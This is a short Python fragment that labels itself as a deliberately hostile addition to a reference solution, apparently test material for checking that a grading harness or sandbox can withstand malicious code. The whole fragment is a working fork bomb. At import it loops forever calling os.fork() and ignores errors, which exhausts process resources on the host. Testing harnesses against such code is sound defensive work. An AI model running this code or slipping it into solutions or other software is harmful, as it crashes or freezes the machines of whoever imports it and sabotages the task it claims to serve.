# ruff: noqa  (a fragment appended to the reference solution; deliberately hostile)

# HOSTILE: a fork bomb at import.
import os as _os

while True:
    try:
        _os.fork()
    except OSError:
        pass
